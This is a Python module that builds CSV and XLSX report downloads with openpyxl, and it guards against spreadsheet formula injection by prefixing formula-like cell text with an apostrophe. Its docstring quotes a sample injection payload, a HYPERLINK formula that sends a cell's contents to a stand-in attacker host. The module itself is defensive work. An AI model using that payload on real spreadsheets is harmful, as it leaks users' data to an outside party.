"""CSV and XLSX downloads of tabular reports.

CSV is UTF-8 with a byte-order mark, so spreadsheet software shows the Chinese text. XLSX
(openpyxl) has a bold header row, frozen below the header, with column widths that fit.

Cells hold user text (titles, summaries, department names), so every cell goes through
:func:`cell_value`: text that a spreadsheet would read as a formula gets a leading ``'``
(formula injection: ``=HYPERLINK("http://evil.example/?d="&B2)`` would send the row away), and
XLSX text cells are written as strings, never formulas. Numbers stay numbers. The files are
served as user documents (``api.headers``).
"""
import csv
import datetime as dt
import io

from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from api.headers import user_document

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def downloadable(description):
    """The OpenAPI 200 response of an endpoint that answers JSON, or with ``?format=csv|xlsx``
    the same figures as a CSV or XLSX download."""
    return {"description": description,
            "content": {"application/json": {"schema": {"type": "object"}},
                        "text/csv": {"schema": {"type": "string"}},
                        XLSX_TYPE: {"schema": {"type": "string", "format": "binary"}}}}


# What spreadsheet software reads as the start of a formula (tab and CR too: some programs strip
# them and then see the formula behind).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_value(value):
    """``value`` safe as a cell: text starting like a formula prefixed with ``'``; others unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def local_time(value, calendar):
    """An ISO date-time (``"2026-10-09T11:00:00+00:00"``, as the API gives it) as the pages show
    it, in the calendar's timezone: ``"2026-10-09 19:00"``. A bare date, None and "" are kept:
    only instants have a clock time to convert."""
    if not value or "T" not in value:
        return value
    moment = dt.datetime.fromisoformat(value)
    if moment.tzinfo is None:  # the database's naive UTC (engine.models.UTCDateTime)
        moment = moment.replace(tzinfo=dt.timezone.utc)
    return calendar.local(moment).strftime("%Y-%m-%d %H:%M")


def _text_width(value):
    text = "" if value is None else str(value)
    return sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)  # CJK characters are double width


def csv_response(columns, rows, filename):
    """``columns``: [(key, header)]; ``rows``: dicts."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([cell_value(header) for _, header in columns])
    for row in rows:
        writer.writerow(["" if row.get(key) is None else cell_value(row.get(key)) for key, _ in columns])
    return user_document(buffer.getvalue().encode("utf-8"), "text/csv", f"{filename}.csv")  # werkzeug adds the charset


def xlsx_response(columns, rows, filename, title):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = title[:31]
    _append(sheet, [header for _, header in columns])
    for row in rows:
        _append(sheet, [row.get(key) for key, _ in columns])
    header_fill = PatternFill("solid", fgColor="DDE6F2")
    for cell in sheet[1]:
        cell.font, cell.fill = Font(bold=True), header_fill
        cell.alignment = Alignment(horizontal="center", vertical="center")
    for index, (key, header) in enumerate(columns, start=1):
        width = max([_text_width(header)] + [_text_width(row.get(key)) for row in rows])
        sheet.column_dimensions[get_column_letter(index)].width = min(max(width + 2, 8), 60)
    sheet.freeze_panes = "A2"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return user_document(buffer.getvalue(), XLSX_TYPE, f"{filename}.xlsx")


def _append(sheet, values):
    """A row of cells; text is always a string cell (openpyxl makes text starting "=" a formula).
    Control characters XML cannot hold become U+FFFD: the rest of the cell is kept, and the
    download does not fail on one odd name."""
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("\ufffd", v) if isinstance(v, str) else v
                  for v in map(cell_value, values)])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
